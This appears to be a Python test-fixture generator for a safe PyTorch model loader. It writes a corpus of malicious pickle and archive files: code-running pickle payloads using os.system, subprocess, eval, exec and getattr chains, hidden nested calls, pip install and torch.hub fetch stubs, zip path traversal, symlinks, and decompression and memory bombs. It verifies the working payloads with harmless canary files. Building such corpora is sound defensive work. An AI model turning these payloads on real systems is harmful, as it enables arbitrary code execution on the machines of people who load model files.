# SPDX-License-Identifier: AGPL-3.0-or-later
"""Writes hostile files, and shows that those which claim to run code do run it under Python's own pickle.

usage: hostile.py DIR CANARIES

Each attack writes to DIR; the ones that run code would create a file in CANARIES. After the proof those files are
removed again, so that whatever lies in CANARIES later was put there by somebody else who loaded an attack. The manifest
names for each file the refusals that are right, and whether the attack was proved.
"""
import io
import json
import os
import pickle
import pickletools
import signal
import struct
import sys
import warnings
import zipfile
import zlib

warnings.simplefilter("ignore")

DIR, CANARIES = sys.argv[1:3]
ATTACKS = {}  # name: (program, containers, codes, live)
FILES = {}  # name: (bytes, codes)


def canary(name):
    return os.path.join(CANARIES, name)


def text(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def tup(*items):
    return b"(" + b"".join(items) + b"t"


def glob(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(module, name, *args):
    return glob(module, name) + tup(*args) + b"R"


def prog(body, proto=2):
    return b"\x80" + bytes([proto]) + body + b"."


def attack(name, program, codes=("UnsafePickle",), live=True, containers=("zip",)):
    assert name not in ATTACKS, name
    ATTACKS[name] = (program, containers, codes, live)


def touch(name):
    return "touch " + canary(name)


def py(name):
    return "open(%r, 'w').close()" % canary(name)


class Reduce:
    """What pickle.dumps makes of an object with __reduce__."""

    def __init__(self, *reduced):
        self.reduced = reduced

    def __reduce__(self):
        return self.reduced


# --- calls ---------------------------------------------------------------------------------------------------------

for proto in (2, 3, 4, 5):
    attack("reduce-system-p%d" % proto, pickle.dumps(Reduce(os.system, (touch("reduce-system-p%d" % proto),)), proto))
for proto in (0, 1):
    attack("reduce-system-p%d" % proto, pickle.dumps(Reduce(os.system, (touch("reduce-system-p%d" % proto),)), proto))
attack("eval", pickle.dumps(Reduce(eval, (py("eval"),)), 2))
attack("exec", pickle.dumps(Reduce(exec, (py("exec"),)), 4))
attack("python2-eval", prog(call("__builtin__", "eval", text(py("python2-eval")))))
attack("open-for-writing", pickle.dumps(Reduce(open, (canary("open-for-writing"), "w")), 2))
attack("io-open", prog(call("io", "open", text(canary("io-open")), text("w"))))
attack("codecs-open", prog(call("codecs", "open", text(canary("codecs-open")), text("w"))))
attack("os-mkdir", prog(call("os", "mkdir", text(canary("os-mkdir")))))
attack("os-symlink", prog(call("os", "symlink", text("/etc/passwd"), text(canary("os-symlink")))))
attack("os-spawn", prog(call("os", "spawnlp", b"K\x00", text("touch"), text("touch"), text(canary("os-spawn")))))
attack("posix-system", prog(call("posix", "system", text(touch("posix-system")))))
attack("nt-system", prog(call("nt", "system", text("calc"))), live=False)
attack("subprocess-call", prog(call("subprocess", "call", b"]" + text("touch") + b"a" + text(canary("subprocess-call")) + b"a")))
attack("subprocess-getoutput", prog(call("subprocess", "getoutput", text(touch("subprocess-getoutput")))))
attack("subprocess-popen-newobj", prog(glob("subprocess", "check_output") + tup(b"]" + text("touch") + b"a" + text(canary("subprocess-popen-newobj")) + b"a") + b"R"))
attack("shutil-copy", prog(call("shutil", "copy", text("/etc/hostname"), text(canary("shutil-copy")))))
attack("runpy", prog(call("runpy", "_run_code", call("builtins", "compile", text(py("runpy")), text("x"), text("exec")), b"}")))
attack("timeit", prog(call("timeit", "timeit", text(py("timeit")), text("pass"), glob("time", "time"), b"K\x01")))
attack("cprofile", prog(call("cProfile", "run", text(py("cprofile")), text("/dev/null"))))
attack("bdb", prog(call("bdb", "Bdb") + b"0" + call("builtins", "exec", text(py("bdb")))))
attack("code-interpreter", prog(call("code", "interact", text("x"))), live=False)
attack("ctypes", prog(call("ctypes", "CDLL", text("libc.so.6"))), live=False)
attack("webbrowser", prog(call("webbrowser", "open", text("http://127.0.0.1/"))), live=False)
attack("socket", prog(call("socket", "create_connection", tup(text("127.0.0.1"), b"K\x01"))), live=False)
attack("pty-spawn", prog(call("pty", "spawn", text("/bin/sh"))), live=False)
attack("importlib", prog(call("importlib", "import_module", text("antigravity"))), live=False)
attack("pip-main", prog(call("pip", "main", b"]" + text("install") + b"a" + text("evil") + b"a")), live=False)
attack("logging-config", prog(call("logging.config", "listen", b"K\x01")), live=False)

# getattr chains
importer = call("builtins", "__import__", text("os"))
attack("getattr-chain", prog(call("builtins", "getattr", importer, text("system")) + tup(text(touch("getattr-chain"))) + b"R"))
attack("getattr-of-allowed", prog(call("builtins", "getattr", glob("collections", "OrderedDict"), text("__init__")) + b"0" + call("os", "system", text(touch("getattr-of-allowed")))))
attack("attrgetter", prog(call("operator", "attrgetter", text("system")) + tup(importer) + b"R" + tup(text(touch("attrgetter"))) + b"R"))
attack("methodcaller", prog(call("operator", "methodcaller", text("system"), text(touch("methodcaller"))) + tup(importer) + b"R"))
attack("partial", prog(call("functools", "partial", glob("os", "system"), text(touch("partial"))) + b")R"))
attack("map", prog(call("builtins", "list", call("builtins", "map", glob("os", "system"), b"]" + text(touch("map")) + b"a"))))
attack("starmap", prog(call("builtins", "list", call("itertools", "starmap", glob("os", "system"), b"]" + tup(text(touch("starmap"))) + b"a"))))
attack("reduce-of-reduce", prog(call("functools", "reduce", glob("builtins", "eval"), b"]" + text(py("reduce-of-reduce")) + b"a}a")))
attack("globals-lookup", prog(call("builtins", "eval", text("__import__('os').system(%r)" % touch("globals-lookup")))))
attack("dotted-name", prog(text("os") + text("path.os.system") + b"\x93" + tup(text(touch("dotted-name"))) + b"R", 4))
attack("dotted-through-allowed-module", prog(text("collections") + text("_sys.modules.get") + b"\x93" + tup(text("os")) + b"R0" + call("os", "system", text(touch("dotted-through-allowed-module"))), 4))
attack("newline-in-stack-global", prog(text("os\n") + text("system") + b"\x93)R", 4), live=False)
attack("str-format", prog(call("builtins", "exec", text(py("str-format")))))

# other ways to call
attack("inst", prog(b"(" + text(touch("inst")) + b"ios\nsystem\n"))
attack("obj", prog(b"(" + glob("os", "system") + text(touch("obj")) + b"o"))
attack("obj-of-allowed", prog(b"(" + glob("collections", "OrderedDict") + b"o"), live=False)
attack("newobj", prog(glob("subprocess", "Popen") + b")\x81"), live=False)
attack("newobj-ex", prog(glob("builtins", "set") + b")}\x92", 4), live=False)
attack("newobj-ex-exec", prog(call("builtins", "exec", text(py("newobj-ex-exec"))) + b"0" + glob("builtins", "object") + b")}\x92", 4))
attack("ext1", prog(b"\x82\x01)R"), live=False)
attack("ext2", prog(b"\x83\x01\x00)R"), live=False)
attack("ext4", prog(b"\x84\x01\x00\x00\x00)R"), live=False)
attack("persid-text", prog(b"Pid\n"), live=False)
attack("build-setstate", prog(glob("builtins", "object") + b")\x81}" + text("__setstate__") + glob("os", "system") + b"sb"), live=False)
attack("build-with-setstate-call", prog(glob("types", "SimpleNamespace") + b")\x81}" + text("__setstate__") + glob("os", "system") + b"sb" + text(touch("build-with-setstate-call")) + b"b"))
attack("build-on-function", prog(glob("collections", "OrderedDict") + b")R}b"), live=False)
attack("build-parameter-dict-hooks", prog(glob("torch.nn.modules.container", "ParameterDict") + b")\x81}" + text("_backward_hooks") + glob("os", "system") + b"sb"), live=False)
attack("build-slots", prog(glob("torch.nn.modules.container", "ParameterDict") + b")\x81N}\x86b"), live=False)
attack("ordered-dict-state", prog(glob("collections", "OrderedDict") + b")R}" + text("_metadata") + call("os", "system", text(touch("ordered-dict-state"))) + b"sb"))
attack("text-string-escapes", b"\x80\x02cos\nsystem\n(S'" + touch("text-string-escapes").encode() + b"'\ntR.")
attack("text-unicode", b"\x80\x02cos\nsystem\n(V" + touch("text-unicode").encode() + b"\ntR.")
attack("memo-swap", prog(glob("collections", "OrderedDict") + b"q\x000" + glob("os", "system") + b"q\x000h\x00" + tup(text(touch("memo-swap"))) + b"R"))
attack("dup", prog(glob("os", "system") + b"2" + tup(text(touch("dup"))) + b"R0"))
attack("pop-mark", prog(b"(" + glob("os", "system") + b"10N"), live=False, codes=("UnsafePickle",))
attack("bytearray-as-code", prog(call("builtins", "exec", b"\x96" + struct.pack("<Q", len(py("bytearray-as-code"))) + py("bytearray-as-code").encode()), 5))
attack("frozenset", prog(b"(" + text("a") + b"\x91", 4), live=False)
attack("out-of-band-buffer", prog(b"\x97", 5), live=False)
attack("long4", prog(b"\x8b\x04\x00\x00\x00\x01\x02\x03\x04"), live=False)

# hidden where a converter might not look
attack("in-dict-key", prog(b"}" + call("os", "system", text(touch("in-dict-key"))) + b"K\x01s"))
attack("in-dict-value", prog(b"}" + text("string_to_param") + call("os", "system", text(touch("in-dict-value"))) + b"s"))
attack("in-ordered-dict-argument", prog(call("collections", "OrderedDict", b"]]" + text("*") + b"a" + call("os", "system", text(touch("in-ordered-dict-argument"))) + b"aa")))
attack("in-set", prog(b"\x8f(" + call("os", "system", text(touch("in-set"))) + b"\x90", 4))
attack("in-opaque-argument", prog(call("builtins", "set", b"]" + call("os", "system", text(touch("in-opaque-argument"))) + b"a")))
attack("before-the-object", prog(call("os", "system", text(touch("before-the-object"))) + b"0}"))
attack("after-stop", prog(b"}") + prog(call("os", "system", text(touch("after-stop")))), ("CorruptFile",), live=False)
attack("nested-pickle-bytes", prog(call("pickle", "loads", b"B" + struct.pack("<I", len(prog(call("os", "system", text(touch("nested-pickle-bytes")))))) + prog(call("os", "system", text(touch("nested-pickle-bytes")))), ), 3))
attack("load-from-bytes", prog(call("torch.storage", "_load_from_bytes", b"C\x01x"), 3), live=False)
attack("torch-load", prog(call("torch", "load", text("x"))), live=False)
attack("torch-hub", prog(call("torch.hub", "load", text("evil/repo"), text("x"))), live=False)
attack("torch-utils-dotted", prog(text("torch._utils") + text("torch.os.system") + b"\x93)R", 4), live=False)
attack("numpy-load", prog(call("numpy", "load", text("x"))), live=False)
attack("storage-type-called", prog(call("torch", "FloatStorage", b"K\x01")), live=False)
attack("storage-type-as-value", prog(glob("torch", "FloatStorage")), live=False)
attack("symbol-called-twice", prog(call("torch", "device", text("cpu")) + b")R"), live=False)
attack("rebuild-with-a-string", prog(call("torch._utils", "_rebuild_tensor_v2", text("os"), b"K\x00", b")", b")", b"\x89", b"}")), live=False)
attack("hooks-that-call", prog(call("torch._utils", "_rebuild_parameter", text("t"), b"\x88", call("os", "system", text(touch("hooks-that-call"))))), live=False)
attack("persistent-id-of-a-function", prog(tup(text("storage"), glob("os", "system"), text("0"), text("cpu"), b"K\x01") + b"Q"), live=False)
attack("persistent-id-module", prog(tup(text("module"), glob("os", "system"), text("a"), text("b")) + b"Q"), live=False)
attack("persistent-id-lies-in-type", prog(tup(text("storage"), text("FloatStorage"), text("0"), text("cpu"), b"K\x01") + b"Q"), ("CorruptFile",), live=False)
attack("persistent-id-lies-in-count", prog(tup(text("storage"), glob("torch", "FloatStorage"), text("0"), text("cpu"), b"\x8a\x08" + b"\xff" * 7 + b"\x7f") + b"Q"), ("CorruptFile",), live=False)
attack("persistent-id-with-a-path", prog(tup(text("storage"), glob("torch", "FloatStorage"), text("../../etc/passwd"), text("cpu"), b"K\x01") + b"Q"), ("CorruptFile",), live=False)
attack("persistent-id-of-nothing", prog(b")Q"), ("CorruptFile",), live=False)

# --- resources -----------------------------------------------------------------------------------------------------

huge = b"\xff\xff\xff\xff\xff\xff\xff\x7f"
attack("unicode-of-2-GiB", prog(b"X\xff\xff\xff\x7fa"), ("CorruptFile",), live=False)
attack("bytes-of-4-GiB", prog(b"B\xff\xff\xff\xffa", 3), ("CorruptFile",), live=False)
attack("unicode8-of-2^63", prog(b"\x8d" + huge + b"a", 4), live=False)
attack("bytes8-of-2^63", prog(b"\x8e" + huge + b"a", 4), live=False)
attack("bytearray8-of-2^63", prog(b"\x96" + huge + b"a", 5), live=False)
attack("long4-of-2-GiB", prog(b"\x8b\xff\xff\xff\x7fa"), live=False)
attack("negative-string", prog(b"T\xff\xff\xff\xffa"), ("CorruptFile",), live=False)
attack("frame-of-2^63", prog(b"\x95" + huge + b"N", 4), ("CorruptFile",), live=False)
attack("frames-that-overlap", b"\x80\x04\x95" + struct.pack("<Q", 20) + b"N0\x95" + struct.pack("<Q", 4) + b"N0N0N0N0N.", ("CorruptFile", "UnsafePickle"), live=False)
attack("frame-in-a-frame", b"\x80\x04\x95" + struct.pack("<Q", 12) + b"\x95" + struct.pack("<Q", 2) + b"N.N.", ("CorruptFile",), live=False)
attack("memo-index-of-2^32", prog(b"Nr\xff\xff\xff\xff" + b"j\xfe\xff\xff\xff"), ("CorruptFile",), live=False)
attack("memo-bomb", prog(b"".join(b"Nr" + struct.pack("<I", i * 65537 % 2**32) + b"0" for i in range(70000))), ("UnsafePickle", "TooComplex"), live=False)
attack("memo-bomb-without-pop", prog(b"(" + b"".join(b"Nr" + struct.pack("<I", i) for i in range(70000)) + b"t"), ("TooComplex",), live=False)
attack("billion-laughs", prog(b"]q\x00" + b"".join(b"](h" + bytes([i]) + b"h" + bytes([i]) + b"eq" + bytes([i + 1]) for i in range(60)) + b"\x85" * 60), ("CorruptFile", "TooComplex"), live=False)
attack("billion-laughs-root", prog(b"]" + b"".join(b"q\x00h\x00\x86" for i in range(60))), ("UnsupportedEmbedding",), live=False)
attack("nested-tuples", prog(b"N" + b"\x85" * 150000), ("TooComplex",), live=False)
attack("nested-lists", prog(b"]" * 90000 + b"a" * 89999), ("TooComplex",), live=False)
attack("nested-marks", prog(b"(" * 100000), ("TooComplex",), live=False)
attack("recursive-list", pickle.dumps((lambda l: (l.append(l), l)[1])([]), 2), ("CorruptFile",), live=False)
attack("recursive-dict", pickle.dumps((lambda d: (d.update(a=[d]), d)[1])({}), 4), ("CorruptFile",), live=False)
attack("copied-lists", prog(b"](" + (text("a") + b"N\x86") * 20000 + b"eq\x00" + (glob("collections", "OrderedDict") + b"h\x00\x85R") * 3000), ("TooComplex",), live=False)
attack("many-opcodes", prog(b"]" + b"Na" * 150000), ("TooComplex",), live=False)
attack("long-line", prog(b"c" + b"a" * 3_000_000 + b"\nb\n"), ("TooComplex",), live=False)
attack("long-integer", prog(b"\x8a\xff" + b"\x7f" * 255), ("TooComplex",), live=False)
attack("long-string", prog(b"X" + struct.pack("<I", 2 << 20) + b"a" * (2 << 20)), ("TooComplex",), live=False)
attack("long-stream", prog((b"X" + struct.pack("<I", 1 << 20) + b"a" * (1 << 20) + b"q\x00") * 5), ("TooComplex",), live=False)
attack("unknown-opcodes", b"\x80\x02\xff\xfe\xfd.", live=False)
attack("no-stop", b"\x80\x02}", ("CorruptFile",), live=False)
attack("empty", b"", ("CorruptFile",), live=False)


def storage(n, key="0", kind="FloatStorage"):
    return tup(text("storage"), glob("torch", kind), text(key), text("cpu"), b"J" + struct.pack("<i", n)) + b"Q"


def ints(*n):
    return tup(*(b"\x8a\x08" + struct.pack("<q", i) for i in n))


def tensor(offset, size, stride, n=6):
    return call("torch._utils", "_rebuild_tensor_v2", storage(n), b"\x8a\x08" + struct.pack("<q", offset), ints(*size), ints(*stride), b"\x89", b"}")


big = 2**63 - 1
for name, t, codes in [
    ("tensor-beyond-storage", tensor(0, (7,), (1,)), ("CorruptFile",)),
    ("tensor-offset-beyond", tensor(6, (1,), (1,)), ("CorruptFile",)),
    ("tensor-negative-offset", tensor(-1, (1,), (1,)), ("CorruptFile",)),
    ("tensor-negative-stride", tensor(5, (6,), (-1,)), ("CorruptFile",)),
    ("tensor-stride-overflow", tensor(0, (3, 3), (big, big)), ("CorruptFile",)),
    ("tensor-size-overflow", tensor(0, (big, big), (0, 0)), ("TooComplex",)),
    ("tensor-of-256-MiB-by-stride-0", tensor(0, (4096, 16384), (0, 0)), ("TooComplex",)),
    ("tensor-of-9-dimensions", tensor(0, (1,) * 9, (1,) * 9), ("TooComplex",)),
    ("tensor-of-rank-3", tensor(0, (1, 2, 3), (6, 3, 1)), ("UnsupportedEmbedding",)),
]:
    attack(name, prog(b"}" + text("a") + t + b"s"), codes, live=False)

# --- containers ----------------------------------------------------------------------------------------------------

LEGACY = (pickle.dumps(0x1950A86A20F9469CFC6C, 2), pickle.dumps(1001, 2),
          pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2))


def legacy(program):
    return b"".join(LEGACY) + program + pickle.dumps([], 2)


def archive(*entries, **options):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", options.get("method", zipfile.ZIP_STORED)) as z:
        for name, data in entries:
            info = name if isinstance(name, zipfile.ZipInfo) else zipfile.ZipInfo(name)
            info.compress_type = options.get("method", zipfile.ZIP_STORED)
            z.writestr(info, data)
    return b.getvalue()


def container(kind, program):
    if kind == "zip":
        return archive(("x/data.pkl", program), ("x/data/0", struct.pack("<6f", *range(6))))
    return legacy(program)


floats = struct.pack("<6f", *range(6))
good = prog(b"}" + text("a") + tensor(0, (2, 3), (3, 1)) + b"s")
evil = prog(call("os", "system", text("true")))
plain = archive(("x/data.pkl", good), ("x/data/0", floats))


def patched(data, mark, offset, new):
    at = data.rindex(mark) + offset
    return data[:at] + new + data[at + len(new):]


def file(name, data, *codes):
    assert name not in FILES and name not in ATTACKS, name
    FILES[name] = (data, codes)


link = zipfile.ZipInfo("x/link")
link.create_system = 3
link.external_attr = 0o120777 << 16
file("zip-two-data-pkl", archive(("x/data.pkl", good), ("x/data/0", floats), ("x/data.pkl", evil)), "CorruptFile")
file("zip-two-folders", archive(("x/data.pkl", good), ("x/data/0", floats), ("y/data.pkl", evil)), "CorruptFile")
file("zip-traversal", archive(("x/data.pkl", good), ("x/data/0", floats), ("../../" + "../" * 20 + canary("zip-traversal"), b"a")), "CorruptFile")
file("zip-absolute", archive(("x/data.pkl", good), ("x/data/0", floats), (canary("zip-absolute"), b"a")), "CorruptFile")
file("zip-backslash", archive(("x/data.pkl", good), ("x/data/0", floats), ("x\\..\\a", b"a")), "CorruptFile")
file("zip-symlink", archive(("x/data.pkl", good), ("x/data/0", floats), (link, b"/etc/passwd")), "CorruptFile")
file("zip-encrypted", patched(plain, b"PK\x01\x02", 8, b"\x01\x00"), "CorruptFile")
file("zip-bomb", archive(("x/data.pkl", good), ("x/data/0", b"\0" * (150 << 20)), method=zipfile.ZIP_DEFLATED), "TooComplex")
file("zip-bomb-program", archive(("x/data.pkl", b"\x80\x02" + b"N" * (40 << 20)), method=zipfile.ZIP_DEFLATED), "TooComplex")
file("zip-bomb-of-bzip2", archive(("x/data.pkl", b"\0" * (20 << 20)), method=zipfile.ZIP_BZIP2), "CorruptFile")
file("zip-lies-about-size", patched(archive(("x/data.pkl", good), ("x/data/0", floats), method=zipfile.ZIP_DEFLATED), b"PK\x01\x02", 24, struct.pack("<I", 100 << 20)), "TooComplex", "CorruptFile")
file("zip-overlap", patched(plain, b"PK\x01\x02", 42, b"\0\0\0\0"), "CorruptFile")
file("zip-wrong-checksum", patched(plain, b"PK\x01\x02", 16, b"abcd"), "CorruptFile")
file("zip-many-entries", archive(("x/data.pkl", good), ("x/data/0", floats), *(("x/%d" % i, b"") for i in range(5000))), "TooComplex")
file("zip-million-records", b"PK\x03\x04" + (b"PK\x01\x02" + b"\0" * 42) * (1 << 20) + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 0, 0, 46 << 20, 4, 0), "CorruptFile")
file("zip-torchscript", archive(("x/data.pkl", good), ("x/data/0", floats), ("x/code/__torch__.py", b"import os")), "UnsupportedPickle")
file("zip-big-endian", archive(("x/data.pkl", good), ("x/data/0", floats), ("x/byteorder", b"big")), "UnsupportedPickle")
file("zip-storage-short", archive(("x/data.pkl", good), ("x/data/0", floats[:-1])), "CorruptFile")
file("zip-storage-missing", archive(("x/data.pkl", good)), "CorruptFile")
file("zip-nan", archive(("x/data.pkl", good), ("x/data/0", struct.pack("<6f", 0, 1, float("nan"), 3, 4, 5))), "UnsupportedEmbedding")
for cut in (1, 10, 50, 100, len(plain) // 2, len(plain) - 22, len(plain) - 1):
    file("zip-truncated-%d" % cut, plain[:cut], "CorruptFile")
file("web-page", b"<!DOCTYPE html><html><body>Log in</body></html>", "DownloadDenied")
file("json", b'{"error":"login required"}', "CorruptFile")
file("bare-pickle", evil, "CorruptFile")
file("gzip", zlib.compress(evil, wbits=31), "CorruptFile")
file("tar", b"\0" * 257 + b"ustar" + b"\0" * 1000, "UnsupportedPickle")
file("nothing", b"", "CorruptFile")
file("sparse-70-MiB", b"\x80\x02" + b"\0" * (70 << 20), "FileTooLarge")
little = dict(protocol_version=1001, little_endian=False)
file("legacy-big-endian", LEGACY[0] + LEGACY[1] + pickle.dumps(little, 2) + pickle.dumps({}, 2) + pickle.dumps([], 2), "UnsupportedPickle")
file("legacy-header-calls", LEGACY[0] + evil + LEGACY[2] + pickle.dumps({}, 2) + pickle.dumps([], 2), "UnsafePickle")
file("legacy-keys-call", b"".join(LEGACY) + pickle.dumps({}, 2) + evil, "UnsafePickle")
file("legacy-trailing", legacy(prog(b"}")) + evil, "CorruptFile")


def tensors(header, data=b""):
    h = json.dumps(header).encode() if not isinstance(header, bytes) else header
    return struct.pack("<Q", len(h)) + h + data


def one(begin, end, shape=None):
    return {"dtype": "U8", "shape": [end - begin] if shape is None else shape, "data_offsets": [begin, end]}


file("safetensors-overlap", tensors({"a": one(0, 4), "b": one(2, 6)}, b"123456"), "CorruptFile")
file("safetensors-out-of-range", tensors({"a": one(0, 1 << 40)}, b"123456"), "CorruptFile")
file("safetensors-gap", tensors({"a": one(0, 2), "b": one(4, 6)}, b"123456"), "CorruptFile")
file("safetensors-shape", tensors({"a": one(0, 6, [2**62, 4])}, b"123456"), "CorruptFile")
file("safetensors-twice", tensors(b'{"a":%s,"a":%s}' % ((json.dumps(one(0, 6)).encode(),) * 2), b"123456"), "CorruptFile")
file("safetensors-header-of-2-GB", struct.pack("<Q", 2_000_000_000) + b'{"a":' + b" " * 1000, "CorruptFile")
file("safetensors-nested-header", tensors(b'{"a":' + b"[" * 200000 + b"]" * 200000 + b"}"), "CorruptFile")
file("safetensors-many-tensors", tensors({str(i): one(i, i + 1) for i in range(1000)}, b"\0" * 1000), "CorruptFile")


# --- proof ---------------------------------------------------------------------------------------------------------

class Unpickler(pickle.Unpickler):
    def persistent_load(self, pid):
        return pid


def run(program):
    """Loads program in a child that may do what it wants."""
    pid = os.fork()
    if pid == 0:
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        signal.alarm(10)
        try:
            Unpickler(io.BytesIO(program)).load()
        except BaseException:
            pass
        os._exit(0)
    os.waitpid(pid, 0)


manifest = []
proved = 0
for name, (program, containers, codes, live) in ATTACKS.items():
    if live:
        assert [op.name for op, _, _ in pickletools.genops(program)][-1] == "STOP", name  # a whole, well-formed program
        run(program)
        assert os.path.lexists(canary(name)), name + " does not work"
        if os.path.isdir(canary(name)):
            os.rmdir(canary(name))
        else:
            os.unlink(canary(name))
        proved += 1
    for kind in (("zip", "legacy") if live else containers):
        file_name = "%s-%s.pt" % (name, kind)
        with open(os.path.join(DIR, file_name), "wb") as f:
            f.write(container(kind, program))
        manifest.append({"file": file_name, "attack": name, "codes": codes, "proved": live})
for name, (data, codes) in FILES.items():
    with open(os.path.join(DIR, name + ".pt"), "wb") as f:
        f.write(data)
    manifest.append({"file": name + ".pt", "attack": name, "codes": codes, "proved": False})
assert not os.listdir(CANARIES), os.listdir(CANARIES)
with open(os.path.join(DIR, "manifest.json"), "w") as f:
    json.dump(manifest, f, indent=0)
print("%d attacks in %d files; %d of them proved to run code under Python %s" % (
    len(ATTACKS) + len(FILES), len(manifest), proved, sys.version.split()[0]))
